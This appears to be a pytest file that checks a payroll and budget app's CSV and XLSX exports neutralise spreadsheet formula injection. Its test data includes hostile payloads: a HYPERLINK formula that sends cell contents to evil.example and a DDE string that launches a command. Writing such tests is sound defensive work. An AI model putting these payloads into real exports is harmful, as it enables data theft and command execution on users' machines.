"""Item 10: text that a spreadsheet would run as a formula (= + - @, a tab or a carriage return first) is
neutralised in every export: the payroll CSV and XLSX, the projection CSV and XLSX, and the roster CSV.

CSV gets a leading apostrophe; XLSX keeps the text in a string cell with the quote prefix, never a formula.
Plain numbers, negative money among them, are left as they are.
"""

import csv
import io
from dataclasses import replace
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from engine.budget.projection import project
from engine.budget.roster import Roster, roster_csv, synthesize
from engine.budget.scenario import Scenario
from safe.spreadsheet import csv_cell, is_formula_like
from services import finance, hr

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_recognised(text):
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-120.50", "+3", "42", "Jane Doe", "", None, Decimal("-1.00"), 7])
def test_numbers_and_plain_text_are_left_alone(value):
    assert not is_formula_like(value)
    assert csv_cell(value) == value


def payroll_row(name: str) -> dict:
    return {"employee_id": "E1", "teacher": name, "district": "cedar-valley", "request": 1, "change": "lane_change",
            "decided_on": "2026-10-15", "effective_date": "2026-07-01", "old_step": 5, "old_lane": "BA", "new_step": 5,
            "new_lane": "BA+15", "old_growth_steps": 0, "new_growth_steps": 0,
            "new_annual_salary": Decimal("56190.00"), "retroactive_amount": Decimal("-120.50")}


def xlsx_cells(data: bytes, sheet: str | None = None) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for row in (book[sheet] if sheet else book.active).iter_rows() for cell in row]


def assert_text_cells_are_inert(cells, expected: list[str]) -> None:
    by_value = {cell.value: cell for cell in cells}
    for text in expected:
        cell = by_value[text]
        assert cell.data_type == "s" and cell.quotePrefix, text  # a string, marked as typed with an apostrophe
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula anywhere


def test_payroll_csv_and_xlsx():
    rows = [payroll_row(name) for name in HOSTILE]
    read = list(csv.DictReader(io.StringIO(hr.payroll_csv(rows))))
    assert [row["teacher"] for row in read] == ["'" + name for name in HOSTILE]
    assert {row["retroactive_amount"] for row in read} == {"-120.50"}  # money stays exact and live
    cells = xlsx_cells(hr.payroll_xlsx(rows))
    assert_text_cells_are_inert(cells, HOSTILE)
    assert {cell.value for cell in cells if cell.column_letter == "O" and cell.row > 1} == {-120.5}


def test_payroll_download_neutralises_a_teachers_name(client, login_as, session, make_teacher, monkeypatch):
    login_as("hr")
    monkeypatch.setattr(hr, "payroll_rows", lambda **_: [payroll_row("=1+1")])
    body = client.get("/hr/payroll.csv?start=2026-10-01&end=2026-10-31").get_data(as_text=True)
    assert ",'=1+1," in body and ",=1+1," not in body


@pytest.fixture(scope="module")
def projection(districts_module):
    rules = districts_module["cedar-valley"]
    roster = synthesize(rules, 60, seed=3)
    scenario = Scenario(name="@SUM(A1:A9)", district_id="cedar-valley", years=2)
    return finance.assemble(rules, scenario, project(rules, scenario, roster), project(rules, scenario.baseline(), roster),
                            roster_name=HOSTILE[0], teachers=len(roster))


@pytest.fixture(scope="module")
def districts_module():
    from engine import load_districts

    return load_districts()


def test_projection_xlsx_neutralises_roster_and_scenario_names(projection):
    cells = xlsx_cells(finance.to_xlsx(projection), "Scenario")
    assert_text_cells_are_inert(cells, [HOSTILE[0], "@SUM(A1:A9)"])
    assert not [c for c in xlsx_cells(finance.to_xlsx(projection), "Projection") if c.data_type == "f"]


def test_projection_csv_neutralises_its_text(projection):
    projection = {**projection, "addition_names": ["=cmd|' /C calc'!A0", *projection["addition_names"]]}
    header = next(csv.reader(io.StringIO(finance.to_csv(projection))))
    assert "'=cmd|' /C calc'!A0" in header


def test_roster_csv_neutralises_a_school_name(districts_module):
    rules = districts_module["harmony"]
    teacher = next(iter(synthesize(rules, 3, seed=1).teachers()))
    hostile = replace(teacher, school='=HYPERLINK("http://evil.example")')
    [row] = list(csv.DictReader(io.StringIO(roster_csv(Roster.from_teachers(rules.id, [hostile], rules)))))
    assert row["school"] == "'" + hostile.school
